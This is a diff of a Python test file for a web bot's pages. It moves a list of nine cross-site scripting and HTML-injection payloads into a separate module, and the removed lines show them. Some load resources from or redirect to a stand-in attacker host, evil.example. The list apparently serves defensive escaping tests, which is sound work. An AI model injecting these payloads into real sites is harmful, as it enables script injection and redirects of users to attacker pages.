@@ -4,6 +4,7 @@ from typing import Any
 
 import pytest
 
+from tests.bot.page.payloads import PAYLOADS
 from tests.bot.web_stand_in import FarEnd, Open, answer, ask, citation, document, paragraph, script
 
 PHONE = {"width": 390, "height": 844}
@@ -74,19 +75,6 @@ def test_chosen_language_changes_every_text_and_is_remembered(open_page: Open, f
         page.goto(f"{address}/{path}")
         page.locator("html[lang=ar]").wait_for()
         page.get_by_role("link", name="التقارير").first.wait_for()
-
-
-PAYLOADS = [
-    "<script>pwned()</script>",
-    "<img src=x onerror=pwned()>",
-    "<svg onload=pwned()><a xlink:href=javascript:pwned()>x</a></svg>",
-    "\"'><iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
-    "javascript:pwned()//",
-    "{{7*7}}${7*7}<style>@import 'http://evil.example/x'</style>",
-    "<form action=http://evil.example><button autofocus onfocus=pwned()>[1]</button></form>",
-    "<base href=http://evil.example/><link rel=stylesheet href=http://evil.example/x.css>",
-    "]]><!--<meta http-equiv=refresh content='0;url=http://evil.example'>",
-]
 
 
 def tainted(payload: str, like: Any) -> Any:
